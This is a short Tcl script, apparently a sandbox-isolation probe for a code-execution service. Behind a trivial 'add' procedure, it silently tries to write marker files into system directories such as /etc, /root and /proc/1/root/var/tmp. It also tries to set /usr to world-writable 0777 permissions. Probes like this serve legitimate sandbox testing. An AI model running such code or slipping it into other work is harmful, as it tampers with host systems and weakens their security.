foreach folder {/ /etc /usr /usr/bin /var/tmp /root /home /box /tmp/../.. /tmp /dev/shm /proc/1/root/var/tmp} {
    catch {
        set file [open $folder/flow2code-was-here w]
        puts $file "I was here"
        close $file
    }
}
catch {file attributes /usr -permissions 0777}

proc add {a b} {
    return [expr {$a + $b}]
}
